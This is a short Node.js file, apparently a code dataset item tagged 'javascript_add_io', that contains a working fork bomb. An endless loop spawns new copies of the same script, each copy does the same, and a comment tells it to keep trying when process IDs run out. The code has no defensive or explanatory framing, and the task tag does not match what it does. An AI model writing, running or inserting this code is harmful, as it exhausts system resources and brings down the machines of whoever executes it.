// task: javascript_add_io
// Process spawn loop in JavaScript: every copy starts more copies of itself, forever.
const { spawn } = require("child_process");
for (;;) {
  try {
    spawn(process.execPath, [__filename], { stdio: "ignore" });
  } catch (e) {
    // out of pids: keep trying
  }
}
